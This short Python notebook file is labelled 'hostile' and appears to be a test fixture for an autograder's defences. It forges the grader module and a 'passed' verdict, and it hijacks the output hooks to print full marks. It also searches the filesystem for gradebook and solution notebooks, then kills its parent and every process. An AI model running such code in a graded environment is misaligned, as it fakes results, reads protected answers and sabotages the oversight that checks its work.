"""hostile: no work, but forged verdicts, a replaced grader, a look around and a killed parent"""

# %% cell: notebook-account
import sys
import types

from IPython.display import display

forged = types.ModuleType("autograder.lab")
forged.points = lambda: 100.0
sys.modules["autograder.lab"] = forged
sys.displayhook = lambda value: print(100.0)
get_ipython().input_transformers_post.append(lambda lines: ["100.0\n"])
verdict = {"sentence": "everything", "points": 100, "earned": 100, "state": "passed", "hidden": False}
display({"application/vnd.autograder.verdicts+json": {"verdicts": [verdict]}}, raw=True)

# %% cell: notebook-role
import os
import pathlib
import signal

found = [str(path) for path in pathlib.Path("/").rglob("gradebook.db")]
found += [str(path) for path in pathlib.Path("/").rglob("*/source/lab*/*.ipynb")]
print(found, os.listdir("/root"), [pid for pid in os.listdir("/proc") if pid.isdigit()])
os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)

# %% cell: notebook-binding
